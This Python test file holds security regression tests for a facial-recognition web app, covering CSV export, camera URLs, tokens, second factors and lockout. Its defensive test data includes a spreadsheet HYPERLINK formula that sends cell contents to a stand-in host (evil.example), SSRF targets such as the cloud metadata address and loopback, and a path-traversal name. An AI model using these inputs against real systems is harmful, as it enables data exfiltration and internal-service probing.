"""Regression tests for what an attack on openfr found (issue 14): each fails on the code before the fix."""

from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient

from actors import PASSWORD, make_app, openfr, sign_in, staff
from openfr.errors import BadInputError
from openfr.governance.credentials import TokenKind
from openfr.governance.permissions import Role
from openfr.live.camera_network import check_camera_url, display_source
from openfr.services.galleries import EnrolFields
from openfr.thresholds import check_threshold
from openfr.web.app import create_app


@pytest.fixture
def site(tmp_path):
    app = make_app(tmp_path / "home")
    people = staff(app)
    client = TestClient(create_app(app))
    tokens = {
        role: app.accounts.sign_in(role.value, PASSWORD, None, TokenKind.API).token
        for role in (Role.ADMINISTRATOR, Role.AUDITOR, Role.OPERATOR)
    }
    yield app, people, client, tokens
    app.close()


def _bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def test_csv_exports_never_carry_a_formula(site):
    app, people, client, _tokens = site
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    client.post("/api/login", json={"username": evil, "password": "wrong password!"})  # no account needed
    rows = app.audit.export(people[Role.AUDITOR], "csv")
    assert any(r["actor"] == evil or evil in json.dumps(r) for r in rows)
    from openfr.csvsafe import to_csv

    text = to_csv(["actor"], [[evil]])
    assert text.splitlines()[1].startswith("\"'=HYPERLINK")


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf"), 1.5, -2.0])
def test_a_threshold_must_be_a_finite_score(value):
    with pytest.raises(BadInputError):
        check_threshold(value, 0.2)


def test_the_api_refuses_a_nan_threshold_instead_of_storing_it(site):
    _app, _people, client, tokens = site
    body = (
        '{"name": "nan-plan", "grounds": "g", "categories": ["missing-person"], "source_gallery": "none", '
        '"location": "l", "location_rationale": "r", "cameras": {"c": "rtsp://cam.example/1"}, '
        '"public_notice": {"signage": "s"}, "threshold": NaN}'
    )
    answer = client.post(
        "/api/deployments",
        content=body,
        headers={**_bearer(tokens[Role.ADMINISTRATOR]), "Content-Type": "application/json"},
    )
    assert answer.status_code in (400, 422), answer.text
    assert "nan-plan" not in {d.name for d in _app.deployments.list(_people[Role.AUDITOR])}


@pytest.mark.parametrize("source", ["\x00", "cam\x00.mp4", "rtsp://10.0.0.9/a\nb"])
def test_a_camera_source_with_a_control_character_is_a_clear_refusal(site, source):
    """Found by the schema fuzzer: a NUL in a camera source reached the file system (ValueError, a 500)."""
    app, people, client, tokens = site
    plan = {"name": "nul-plan", "grounds": "g", "categories": ["missing-person"], "source_gallery": "none",
            "location": "l", "location_rationale": "r", "cameras": {"c": source},
            "public_notice": {"signage": "s"}}  # fmt: skip
    answer = client.post("/api/deployments", json=plan, headers=_bearer(tokens[Role.ADMINISTRATOR]))
    assert answer.status_code == 400 and "control characters" in answer.json()["detail"], answer.text
    assert "nul-plan" not in {d.name for d in app.deployments.list(people[Role.AUDITOR])}


def test_out_of_range_ids_and_limits_are_clear_errors(site, tmp_path):
    app, people, client, tokens = site
    auditor = _bearer(tokens[Role.AUDITOR])
    huge = client.get("/api/alerts/99999999999999999999/images/crop", headers=auditor)
    assert 400 <= huge.status_code < 500
    for limit in (0, -1, 10**9):  # outside the route's bounds: refused with the reason, nothing read
        assert client.get("/api/audit/events", params={"limit": limit}, headers=auditor).status_code == 422
    fields = EnrolFields("cases/../demo-watchlist", "S-1", "test")
    with pytest.raises(BadInputError, match="gallery name"):
        app.galleries.enrol_upload(people[Role.ADMINISTRATOR], fields, filename="x.jpg", data=b"x")


def test_an_api_token_can_be_revoked_and_a_password_reset_ends_every_session(site):
    app, people, client, tokens = site
    admin = people[Role.ADMINISTRATOR]
    owner = sign_in(app, "auditor")
    issued = app.accounts.issue_own_token(owner, "integration", "read", 30, password=PASSWORD)["token"]
    assert client.get("/api/audit/verify", headers=_bearer(issued)).status_code == 200
    (row,) = [t for t in app.staff.tokens(admin, "auditor") if t["name"] == "integration"]
    with pytest.raises(BadInputError):
        app.staff.revoke_api_token(admin, "auditor", row["id"], "")  # a reason is required
    app.staff.revoke_api_token(admin, "auditor", row["id"], "leaked in a ticket")
    assert client.get("/api/audit/verify", headers=_bearer(issued)).status_code == 401
    # A reset by an administrator ends the sessions of whoever knew the old password.
    session = tokens[Role.AUDITOR]
    app.staff.set_password(admin, "auditor", "A-new-long-password-7")
    assert client.get("/api/audit/verify", headers=_bearer(session)).status_code == 401
    # Disable, then enable: the tokens of before stay dead.
    fresh = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
    app.staff.set_active(admin, "operator", False, "test: tokens stay dead")
    app.staff.set_active(admin, "operator", True)
    assert client.get("/api/deployments", headers=_bearer(fresh)).status_code == 401


def test_changing_ones_own_password_ends_the_other_sessions_but_this_one(site):
    app, _people, client, _tokens = site
    here = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
    there = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
    me = sign_in(app, "operator")
    app.accounts.change_own_password(me, PASSWORD, "Another-long-password-8", keep=here)
    assert client.get("/api/deployments", headers=_bearer(here)).status_code == 200
    assert client.get("/api/deployments", headers=_bearer(there)).status_code == 401


def test_a_second_factor_cannot_be_replaced_with_a_session_alone(site):
    import pyotp

    app, people, _client, _tokens = site
    me = people[Role.OPERATOR]
    with pytest.raises(BadInputError, match="base32"):  # a clear refusal, not a 500
        app.accounts.confirm_totp(me, "not base32 at all!", "123456", password=PASSWORD)
    secret, _ = app.accounts.start_totp(me)
    app.accounts.confirm_totp(me, secret, pyotp.TOTP(secret).now(), password=PASSWORD)
    other, _ = app.accounts.start_totp(me)
    with pytest.raises(BadInputError, match="current authenticator"):
        app.accounts.confirm_totp(me, other, pyotp.TOTP(other).now(), password=PASSWORD)
    with pytest.raises(BadInputError, match="password"):
        app.accounts.confirm_totp(me, other, pyotp.TOTP(other).now(), password="wrong")


def test_statements_are_logged_without_their_values(site):
    app, *_ = site
    assert app.runtime.db.engine.hide_parameters  # a camera URL with a password never reaches the log


def test_pages_tell_the_browser_not_to_frame_sniff_or_cache_them(site):
    _app, _people, client, tokens = site
    page = client.get("/login")
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY" and page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["cache-control"] == "no-store"
    api = client.get("/api/deployments", headers=_bearer(tokens[Role.OPERATOR]))
    assert api.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",  # a cloud's metadata service
        "http://127.0.0.1:8000/api/health",  # the server itself
        "rtsp://[::1]/stream",
        "http://0.0.0.0/",
        "http://224.0.0.1/",
    ],
)
def test_a_camera_cannot_point_the_server_at_its_own_or_the_clouds_services(url):
    with pytest.raises(BadInputError, match="refused"):
        check_camera_url(url, [], allow_loopback=False)


def test_camera_networks_limit_where_cameras_may_be(site):
    check_camera_url("rtsp://10.20.1.5/stream", ["10.20.0.0/16"], allow_loopback=False)
    with pytest.raises(BadInputError, match="camera networks"):
        check_camera_url("rtsp://192.168.1.5/stream", ["10.20.0.0/16"], allow_loopback=False)
    assert display_source("rtsp://admin:secret@10.20.1.5:554/live?token=x") == "rtsp://10.20.1.5:554"


def test_planning_refuses_a_loopback_camera_on_an_installation(tmp_path):
    from openfr.live.lifecycle import DeploymentPlan
    from openfr.settings import LiveSettings

    app = make_app(tmp_path / "home", live=LiveSettings())  # as installed: no loopback cameras
    people = staff(app)
    plan = DeploymentPlan(
        name="probe", grounds="g", categories=["missing-person"], source_gallery="custody", location="l",
        location_rationale="r", cameras={"c": "http://127.0.0.1:8000/api/health"}, public_notice={"signage": "s"},
    )  # fmt: skip
    with pytest.raises(BadInputError, match="loopback"):
        app.deployments.plan(people[Role.ADMINISTRATOR], plan)
    missing = DeploymentPlan(**{**plan.__dict__, "cameras": {"c": "no-such-file.mp4"}})
    with pytest.raises(BadInputError) as refused:
        app.deployments.plan(people[Role.ADMINISTRATOR], missing)
    assert str(app.runtime.home) not in str(refused.value)  # a refusal never reveals the server's paths


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_a_huge_upload_is_decoded_small_enough_to_bound_memory(fmt):
    import io

    from PIL import Image

    from openfr.imageio import load_image

    buffer = io.BytesIO()
    Image.new("RGB", (6300, 6300), (120, 90, 60)).save(buffer, fmt)
    image = load_image(buffer.getvalue(), working_pixels=16_000_000)
    assert image.shape[0] * image.shape[1] <= 16_000_000 and image.shape[0] == image.shape[1] >= 3000
    assert load_image(buffer.getvalue()).shape[:2] == (6300, 6300)  # evaluation paths keep the whole image


def test_what_openfr_writes_is_readable_by_its_owner_only(tmp_path, sample_paths):
    import stat

    from actors import cli_login

    home = tmp_path / "fresh-home"
    env = {"OPENFR_HOME": str(home)}
    # Real processes: the owner-only umask is set by the `openfr` entry point (cli.main), as a user runs it.
    made = openfr(
        "user", "create", "admin", "--role", "admin", "--password-stdin", env=env, stdin=PASSWORD + "\n", process=True
    )
    assert made.returncode == 0, made.stderr
    cli_login(env, "admin", process=True)
    people = tmp_path / "people" / "S-1"
    people.mkdir(parents=True)
    (people / "1.jpg").write_bytes(sample_paths["yaoming"].read_bytes())
    assert openfr("gallery", "create", "custody", "--purpose", "test", env=env, process=True).returncode == 0
    assert openfr("gallery", "import", "custody", str(people.parent), env=env, process=True).returncode == 0
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    written = [p for p in home.rglob("*") if p.is_file()]
    assert any(p.suffix == ".jpg" for p in written) and any(p.name == "openfr.db" for p in written)
    assert all(stat.S_IMODE(p.stat().st_mode) & 0o077 == 0 for p in written), [
        (p.name, oct(p.stat().st_mode)) for p in written if p.stat().st_mode & 0o077
    ]


def test_a_locked_account_costs_the_same_work_and_its_owner_with_a_second_factor_still_gets_in(site, monkeypatch):
    import pyotp

    from openfr.governance import credentials
    from openfr.governance.credentials import AuthError

    app, people, _client, _tokens = site
    me = people[Role.OPERATOR]
    secret, _ = app.accounts.start_totp(me)
    app.accounts.confirm_totp(me, secret, pyotp.TOTP(secret).now(), password=PASSWORD)
    for _ in range(5):  # someone else guesses: the account locks
        with pytest.raises(AuthError):
            app.accounts.sign_in("operator", "wrong guess!!", "000000", TokenKind.API)
    from datetime import UTC, datetime, timedelta

    next_code = pyotp.TOTP(secret).at(datetime.now(UTC) + timedelta(seconds=30))
    assert app.accounts.sign_in("operator", PASSWORD, next_code, TokenKind.API).principal.username == "operator"
    for _ in range(5):  # an account without a second factor stays locked, and answers as slowly
        with pytest.raises(AuthError):
            app.accounts.sign_in("auditor", "wrong guess!!", None, TokenKind.API)
    calls = []
    real = credentials._hasher

    class Counting:  # argon2 work: a hash, or a verify (the same cost) against the stored hash
        def hash(self, password):
            calls.append(1)
            return real.hash(password)

        def verify(self, stored, password):
            calls.append(1)
            return real.verify(stored, password)

        def __getattr__(self, name):
            return getattr(real, name)

    monkeypatch.setattr(credentials, "_hasher", Counting())
    with pytest.raises(AuthError):
        app.accounts.sign_in("auditor", PASSWORD, None, TokenKind.API)
    assert calls == [1]  # the argon2 work a real check costs: no fast "locked" answer
